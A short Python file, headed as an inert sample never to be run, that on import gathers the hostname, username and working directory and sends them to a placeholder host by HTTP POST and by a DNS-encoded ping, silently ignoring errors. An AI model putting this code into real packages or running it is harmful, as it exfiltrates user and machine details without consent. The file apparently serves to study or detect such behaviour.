# INERT SAMPLE: never run. Sends who and where it runs as soon as it is imported.
import getpass
import os
import socket
import urllib.request

info = "%s;%s;%s" % (socket.gethostname(), getpass.getuser(), os.getcwd())
try:
    urllib.request.urlopen("https://x.example.invalid/b", data=info.encode(), timeout=5)
except Exception:
    pass
os.system("ping -c 1 %s.x.example.invalid" % info.encode().hex()[:60])
